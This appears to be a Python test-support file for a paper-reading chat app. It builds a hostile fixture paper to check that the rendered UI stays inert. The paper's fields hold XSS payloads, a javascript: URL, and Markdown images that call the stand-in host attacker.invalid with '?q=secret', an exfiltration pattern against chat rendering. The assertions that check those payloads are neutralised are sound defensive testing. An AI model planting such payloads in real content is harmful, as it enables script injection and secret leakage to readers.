"""Shared by the UI tests (AppTest and browser): a hostile paper, upload payloads, app helpers."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

APP = Path(__file__).resolve().parents[1] / "ui" / "app.py"

ATTACKER = "attacker.invalid"
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
MD_IMG = f"![x](http://{ATTACKER}/?q=secret)"

# A paper whose every free-text field tries something. The payloads sit in sentences of their own
# so that the clean sentences around them stay quotable: the paper gets cited, and its source text
# (payloads included) is shown on the chat page.
EVIL_PAPER: dict[str, Any] = {
    "id": "evil-tomato",
    "title": f"Soft grippers for greenhouse tomato harvesting ![t](http://{ATTACKER}/title.png) <b>now</b>",
    "abstract": (
        "We present a robotic system that harvests ripe tomatoes in greenhouses using soft grippers. "
        f"Demo {SCRIPT} here. "
        "The soft gripper picks ripe tomatoes without bruising them in 95% of greenhouse trials. "
        f"Photo {IMG} {MD_IMG} here. "
        "Field trials in three greenhouses confirm that soft grippers harvest tomatoes reliably."
    ),
    "authors": [f"Mallory <img src=x onerror=alert(2)> [m](http://{ATTACKER}/author)", "Eve Example"],
    "year": 2024,
    "url": "javascript:alert(3)",
    "tags": ["robotics"],
}
EVIL_QUESTION = "How do soft grippers harvest ripe tomatoes in greenhouses?"

PIG_QUESTION = (
    "How can Gaussian functions with learnable positions replace a fixed mesh in physics-informed learning?"
)
OFF_TOPIC_QUESTION = "What is the boiling point of ethanol?"

NEW_PAPER: dict[str, Any] = {
    "id": "ui-test-widgets",
    "title": "Learned Widget Placement for Accessible User Interfaces",
    "abstract": (
        "We learn where to place interface widgets so that screen-reader users reach them quickly. "
        "A ranking model trained on interaction logs cuts navigation time by a third."
    ),
    "authors": ["Grace Hopper"],
    "year": 2023,
    "url": "https://example.org/widgets",
}


def jsonl_bytes(*records: dict[str, Any]) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in records).encode()


def pdf_bytes(title: str = "Sparse Mixture Routing for Protein Folding") -> bytes:
    """A small real PDF (fpdf2) with a title, an author, an abstract and one section."""
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_title(title)
    pdf.set_author("Ada Lovelace")
    pdf.add_page()
    pdf.set_font("Helvetica", size=16)
    pdf.multi_cell(0, 10, title, new_x="LMARGIN", new_y="NEXT")
    pdf.set_font("Helvetica", size=11)
    body = (
        "Abstract\nWe route protein fragments through a sparse mixture of experts to predict folds. "
        "The router learns which expert handles each fragment.\n\n1 Introduction\n"
        "Protein folding is hard. Our sparse router cuts compute by half while matching accuracy."
    )
    pdf.multi_cell(0, 6, body, new_x="LMARGIN", new_y="NEXT")
    return bytes(pdf.output())


def add_papers(library: Any, embedder: Any, tmp: Path, *records: dict[str, Any]) -> None:
    """Ingest records through the real pipeline (as a JSONL file)."""
    from assistant.settings import get_settings
    from tests.support import ingest_files

    path = tmp / "extra.jsonl"
    path.write_bytes(jsonl_bytes(*records))
    report = ingest_files([path], library, embedder, get_settings())
    assert report.failed == 0 and report.added + report.updated == len(records), report


def app_test(page: str | None = None, timeout: float = 120) -> Any:
    """A fresh AppTest of the whole app, run once, switched to `page` ("views/chat.py"...)."""
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(APP), default_timeout=timeout)
    at.run()
    assert not at.exception, at.exception
    if page:
        at.switch_page(page).run()
        assert not at.exception, at.exception
    return at


# --- safety checks over an AppTest tree ---------------------------------------------------------
_MARKDOWN_TYPES = {
    "markdown", "caption", "info", "warning", "error", "success", "title", "header", "subheader", "toast",
}


def markdown_sources(at: Any) -> list[str]:
    """Every string of the rendered page that Streamlit interprets as Markdown: bodies of
    markdown/caption/alerts/headings, and the labels of expanders, buttons, pills, metrics…"""
    found: list[str] = []

    def walk(node: Any) -> None:
        kind = getattr(node, "type", "")
        if kind in _MARKDOWN_TYPES:
            found.append(str(getattr(node, "value", "") or getattr(node.proto, "body", "")))
        label = getattr(node, "label", None)
        if isinstance(label, str):
            found.append(label)
        if kind == "button_group":
            found.extend(node.options)
        if kind == "metric":
            found.append(node.value)
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    return found


def assert_inert(at: Any) -> None:
    """No Markdown on the page can become an image, a script, raw HTML or a link to the attacker.

    Each Markdown string is rendered with a CommonMark renderer that allows raw HTML (stricter than
    Streamlit's, which drops it); the attacker's host may only appear escaped (`attacker\\.invalid`),
    and the rendered text must hold no bare URL or address that GFM would turn into a link.
    """
    import html as html_lib
    import re

    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    sources = markdown_sources(at)
    assert sources, "no markdown found: the check would be vacuous"
    for src in sources:
        html = md.render(src)
        assert "<img" not in html, (src, html)
        assert "<script" not in html, (src, html)
        assert "<b>" not in html, (src, html)  # the title's raw HTML stays text
        assert ATTACKER not in src, src
        assert "<a href" not in html or ATTACKER not in html, (src, html)
        text = html_lib.unescape(re.sub(r"<[^>]+>", " ", html))
        assert not re.search(r"(?i)(https?://|www\.)[^\s]*" + re.escape(ATTACKER), text), (src, text)


# --- the chat answer's support view (ui/support_html.py) ----------------------------------------
def answer_html(node: Any) -> str:
    """The HTML of the answer body (the support view) inside an AppTest node (a chat message)."""
    found: list[str] = []

    def walk(n: Any) -> None:
        if getattr(n, "type", "") == "html" and "pa-answer" in n.proto.body:
            found.append(n.proto.body)
        for child in getattr(n, "children", {}).values():
            walk(child)

    walk(node)
    assert len(found) == 1, f"expected one answer body, found {len(found)}"
    return found[0]


def shown_sentences(body_html: str) -> list[tuple[str, list[int], str]]:
    """(sentence text as the reader sees it, the source chips after it, status) in reading order."""
    import html as html_lib
    import re

    out = []
    pattern = (
        r'<span class="pa-sent( pa-unsupported| pa-neutral)?" data-src="[^"]*"(?: data-verdict="(\w+)")?>(.*?)</span>'
        r'((?:<span class="pa-chip" data-n="\d+"(?: title="[^"]*")?>\[\d+\]</span>)*)'
        r'(<span class="pa-partly"[^>]*>partly</span>)?(<span class="pa-nosrc")?'
    )
    answer = body_html.split('<div class="pa-legend">')[0]
    for m in re.finditer(pattern, answer, re.DOTALL):
        text = html_lib.unescape(re.sub(r"<[^>]+>", "", m.group(3)))
        chips = [int(n) for n in re.findall(r'data-n="(\d+)"', m.group(4))]
        status = {" pa-unsupported": "unsupported", " pa-neutral": "neutral"}.get(m.group(1) or "", "supported")
        if m.group(2) == "partly":
            status = "partly"
            assert m.group(5), "a partly supported sentence carries its badge"
        assert (status == "unsupported") == bool(m.group(6)), "an unsupported sentence carries its badge"
        out.append((text, chips, status))
    return out


def assert_view_inert(body_html: str) -> None:
    """The support view's HTML holds no element the answer or a paper could have smuggled in."""
    import re

    tags = set(re.findall(r"<\s*([a-zA-Z][a-zA-Z0-9-]*)", body_html))
    assert tags <= {"style", "div", "span", "p", "ul", "ol", "li", "strong", "em", "code", "pre", "a", "br",
                    "table", "thead", "tbody", "tr", "th", "td"}, tags
    assert "<img" not in body_html and "<script" not in body_html
    assert not re.search(r"<[^>]*\son\w+\s*=", body_html), "no live event handler"
    for href in re.findall(r'href="([^"]*)"', body_html):
        assert href.startswith(("http://", "https://")) and ATTACKER not in href, href
